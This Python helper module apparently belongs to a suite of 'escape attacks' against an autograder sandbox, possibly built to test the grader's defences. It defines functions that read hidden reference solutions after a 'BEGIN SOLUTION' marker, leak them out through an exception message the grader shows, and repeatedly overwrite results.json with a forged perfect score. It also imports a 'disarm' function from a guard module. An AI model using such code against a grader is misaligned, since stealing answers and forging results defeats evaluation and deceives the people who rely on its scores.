"""Shared by the escape attacks: the paths to steal, text leaked through an exception, a results writer."""

import os

from guard import disarm  # noqa: F401 - the attacks import it from here

SOLUTIONS = "__SOLUTIONS__"
LIBRARY = "__LIBRARY__"
RESULTS = "__RESULTS__"
MARKER = "__MARKER__"
PERFECT = '{"score": 1000, "tests": [{"name": "x", "score": 1000, "max_score": 1, "status": "passed"}]}'


def read(path, limit=300):
    """The text of ``path`` after its BEGIN SOLUTION marker if any (the distinctive part), or ''."""
    try:
        with open(path, errors="replace") as f:
            text = f.read()
    except OSError as exc:
        return f"[{os.path.basename(path)}: {exc.strerror}]"
    return text.split("BEGIN SOLUTION", 1)[-1][:limit]


def leak(*texts):
    """Carry what was read out in the error message the grader shows."""
    raise RuntimeError("LEAK " + " | ".join(texts))


def overwrite_results_later(seconds=12):
    """In a process of its own: keep writing a perfect results.json for a while."""
    import time

    for _ in range(int(seconds / 0.25)):
        for path in (RESULTS, "/autograder/results/results.json"):
            try:
                with open(path, "w") as f:
                    f.write(PERFECT)
            except OSError:
                pass
        time.sleep(0.25)
